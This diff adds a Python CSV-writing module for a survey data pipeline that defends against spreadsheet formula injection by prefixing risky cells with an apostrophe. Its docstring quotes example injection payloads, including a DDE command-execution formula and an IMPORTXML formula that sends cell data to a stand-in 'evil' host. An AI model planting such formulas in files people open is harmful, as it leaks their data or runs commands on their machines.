@@ -1,0 +1,103 @@
+"""The one place where a value becomes a CSV cell: every CSV the pipeline writes goes through :class:`CsvWriter`.
+
+The dialect is that of pipeline.md 9.5 (comma, ``"`` quotes doubled, ``\\n`` row terminators, UTF-8 without
+BOM, header always written, ``None`` an empty cell, integers in decimal), with three deliberate differences from
+2019, each a data-safety rule:
+
+- **Formula neutralisation.** Anyone who can text the shortcode decides what a raw-text cell starts with, and
+  analysts, coders and producers open these files in Excel or Google Sheets. A cell whose text starts with
+  ``=``, ``+``, ``-``, ``@``, a tab or a carriage return would be read as a formula (``=HYPERLINK(...)``,
+  ``+cmd|' /C calc'!A0``, ``=IMPORTXML("http://evil/?"&A2, ...)``), so it gets a leading ``'``, the spreadsheet
+  convention for "this is text"; the spreadsheet shows the text as sent. No column the pipeline writes holds a
+  negative number (codes, ``true``/``false``, ``0``/``1``, ages 10-99, run ids are positive), so a cell starting
+  with ``-`` is always a participant's text or a code name and is neutralised like the others. JSON outputs (Coda
+  files, the audit trail) keep the text as sent.
+- **CR and LF are always quoted.** Python's csv module with the ``\\n`` terminator leaves a bare ``\\r``
+  unquoted (2019's files have such rows, which every reader splits in two), and whether it does depends on the
+  Python version. Here a field is quoted when it contains a comma, a quote, a CR or an LF, whatever the version.
+- **No NUL.** NUL characters are dropped from cells (readers such as Python's csv module refuse a file with one).
+
+Rendering is memoised per distinct text within a file (most cells are one of a few codes), which keeps the
+writer as fast as the csv module's C writer.
+"""
+
+from __future__ import annotations
+
+import os
+import re
+from typing import IO, Any, Iterable, Sequence
+
+from redss_pipeline.core.atomic_files import atomic_open
+
+__all__ = ["FORMULA_STARTS", "neutralise", "render_cell", "CsvWriter", "write_csv"]
+
+FORMULA_STARTS = frozenset("=+-@\t\r")
+"""The first characters that make a spreadsheet read a cell as a formula (or, for tab and CR, that some
+spreadsheets strip before looking for one)."""
+
+_NEEDS_QUOTES = re.compile(r'[",\r\n]')
+_MEMO_LIMIT = 200_000  # distinct texts remembered per file; raw texts are mostly distinct, codes are few
+
+
+def neutralise(text: str) -> str:
+    """``text`` with a leading ``'`` when a spreadsheet would otherwise read it as a formula."""
+    return "'" + text if text[:1] in FORMULA_STARTS else text
+
+
+def render_cell(value: Any) -> str:
+    """The characters written for one value: empty for None, decimal for integers, the text otherwise; then
+    NUL dropped, formula neutralised, quoted when it holds a comma, a quote, a CR or an LF."""
+    if value is None:
+        return ""
+    text = value if type(value) is str else str(value)
+    if "\x00" in text:
+        text = text.replace("\x00", "")
+    if text[:1] in FORMULA_STARTS:
+        text = "'" + text
+    if _NEEDS_QUOTES.search(text):
+        text = '"' + text.replace('"', '""') + '"'
+    return text
+
+
+class CsvWriter:
+    """Writes rows of values to an open text handle (opened with ``newline=""``) as CSV lines.
+
+    ``writer = CsvWriter(handle); writer.writerow(header); writer.writerow(values)``. A row is a sequence of
+    values (str, int or None); every cell passes through :func:`render_cell`.
+    """
+
+    def __init__(self, handle: IO[str]):
+        self._write = handle.write
+        self._memo: dict[str, str] = {}
+
+    def _cell(self, value: Any) -> str:
+        text = self._memo.get(value)
+        if text is None:
+            text = render_cell(value)
+            if type(value) is str:
+                if len(self._memo) >= _MEMO_LIMIT:
+                    self._memo.clear()
+                self._memo[value] = text
+        return text
+
+    def writerow(self, values: Sequence[Any]) -> None:
+        line = ",".join(map(self._cell, values))
+        if not line and len(values) == 1:
+            line = '""'  # a lone empty field, written so the row is not a blank line (as the csv module does)
+        self._write(line + "\n")
+
+    def writerows(self, rows: Iterable[Sequence[Any]]) -> None:
+        for row in rows:
+            self.writerow(row)
+
+
+def write_csv(path: str | os.PathLike, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> None:
+    """Writes a whole CSV file atomically (a temporary file renamed into place): the header, then the rows.
+
+    Use this (or :class:`CsvWriter` on a handle from :func:`~redss_pipeline.core.atomic_files.atomic_open`)
+    for every CSV the pipeline writes, so every file gets the same safe cells.
+    """
+    with atomic_open(path, "w", encoding="utf-8", newline="") as handle:
+        writer = CsvWriter(handle)
+        writer.writerow(header)
+        writer.writerows(rows)
